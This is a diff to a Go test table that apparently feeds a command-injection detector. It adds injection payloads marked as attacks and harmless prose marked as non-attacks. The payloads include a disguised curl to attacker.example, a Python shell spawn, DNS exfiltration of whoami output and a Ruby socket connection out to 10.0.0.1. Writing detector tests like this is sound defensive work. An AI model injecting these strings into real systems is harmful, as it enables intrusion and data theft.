@@ -36,6 +36,20 @@ func init() {
 		attackEntry{lQ, "v", "a='l';cu$a\\r\\l attacker.example", "cmdi", encURL},
 		attackEntry{lQ, "q", "python3.11 -c 'import pty;pty.spawn(\"/bin/sh\")'", "cmdi", encAll},
 		attackEntry{lQ, "host", "x;python3.12 -m http.server 8000", "cmdi", encAll},
+		// commix's time-based probe; assignments, subshells, groups and
+		// compound commands before the command; a substitution as a
+		// command's argument; code glued to a flag; the shell's own
+		// variables.
+		attackEntry{lQ, "host", ";str=$(echo NEGGOI);str1=$(expr length \"$str\");if [ 6 != $str1 ];then sleep 0;else sleep 5;fi", "cmdi", encURL},
+		attackEntry{lQ, "host", ";x=$(whoami)", "cmdi", encAll},
+		attackEntry{lQ, "host", ";(id)", "cmdi", encAll},
+		attackEntry{lJ, "host", "|(sleep 5)", "cmdi", 0},
+		attackEntry{lQ, "host", ";{ id; }", "cmdi", encURL},
+		attackEntry{lQ, "host", "1;if true;then id;fi", "cmdi", encURL},
+		attackEntry{lQ, "host", "nslookup `whoami`.x.oast.example", "cmdi", encURL},
+		attackEntry{lQ, "host", ";ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",1234).to_i'", "cmdi", encURL},
+		attackEntry{lQ, "host", ";$BASH -c id", "cmdi", encURL},
+		attackEntry{lQ, "host", ";$0 -c id", "cmdi", encURL},
 		// Paths spelled with repeated slashes or dot segments, which
 		// the kernel resolves to the plain one.
 		attackEntry{lQ, "host", ";//bin/id", "cmdi", encAll},
@@ -96,6 +110,12 @@ func init() {
 		// Substitutions and expansions quoted in text, templates and
 		// build files.
 		corpusEntry{lJ, "body", "Use $(pwd) to get the current directory"},
+		// Prose with parentheses and keywords after a semicolon, a
+		// shell line with a condition, a variable's name.
+		corpusEntry{lQ, "q", "Hello; (id est) the point"},
+		corpusEntry{lJ, "note", "(see note); (optional) then continue"},
+		corpusEntry{lJ, "doc", "The $0 variable holds the script name"},
+		corpusEntry{lQ, "q", "\"--- FAIL: \""},
 		// A URL's "//" and a code comment's are no path to resolve.
 		corpusEntry{lJ, "note", "see https://example.com//a/./b; and // the id of the user"},
 		corpusEntry{lJ, "code", "int x = 1; // id of the row"},
